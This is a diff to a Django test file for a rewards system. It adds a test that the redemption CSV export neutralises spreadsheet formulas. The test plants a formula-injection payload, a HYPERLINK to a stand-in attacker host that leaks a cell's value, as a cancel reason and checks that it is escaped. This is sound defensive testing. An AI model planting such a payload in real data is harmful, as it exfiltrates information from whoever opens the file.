@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from decimal import Decimal
 from http import HTTPStatus
 
@@ -13,6 +15,7 @@ from loyalty.models import Account
 from members.models import AuditEntry
 from members.roles import CUSTOMER_SERVICE, MARKETING, OPERATOR, SUPERVISOR
 from rewards.models import Redemption, Reward, StockMovement
+from rewards.resources import RedemptionResource
 from rewards.services import redemption_cancel, redemption_create
 from tests.loyalty.staff import client_for, staff_user
 
@@ -305,6 +308,31 @@ def test_operator_exports_redemptions(redeemed):
     assert lines[0].split(",")[:5] == ["id", "coupon_code", "member", "reward", "kind"]
     assert sorted(line.split(",")[5] for line in lines[1:]) == ["cancelled", "issued"]
     assert any(redeemed.coupon_code in line and "C-1001,FIVE_OFF" in line for line in lines)
+
+
+def test_redemption_export_escapes_formulas(member, give_points, make_reward, system_actor):
+    give_points(member, 1000)
+    make_reward(code="FIVE_OFF", stock=5)
+    issued = redemption_create(member=member, reward_code="FIVE_OFF", actor=system_actor)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    redemption_cancel(redemption=issued.redemption, actor=system_actor, reason=formula)
+    client = client_for(staff_user(OPERATOR, "operator"))
+    url = reverse("admin:rewards_redemption_export")
+    formats = {
+        label.lower(): value
+        for value, label in client.get(url).context["form"].fields["format"].choices
+    }
+    assert set(formats) - {"---"} == {"csv", "xlsx"}
+    fields = {
+        f"redemptionresource_{name}": "on" for name in RedemptionResource().get_export_order()
+    }
+
+    response = client.post(url, {"format": formats["csv"], "resource": "0", **fields})
+
+    assert response.status_code == HTTPStatus.OK
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [row["cancel_reason"] for row in rows] == ["'" + formula]
+    assert rows[0]["points_spent"] == str(issued.redemption.points_spent)  # numbers untouched
 
 
 @pytest.mark.parametrize("role", [MARKETING, CUSTOMER_SERVICE, SUPERVISOR])
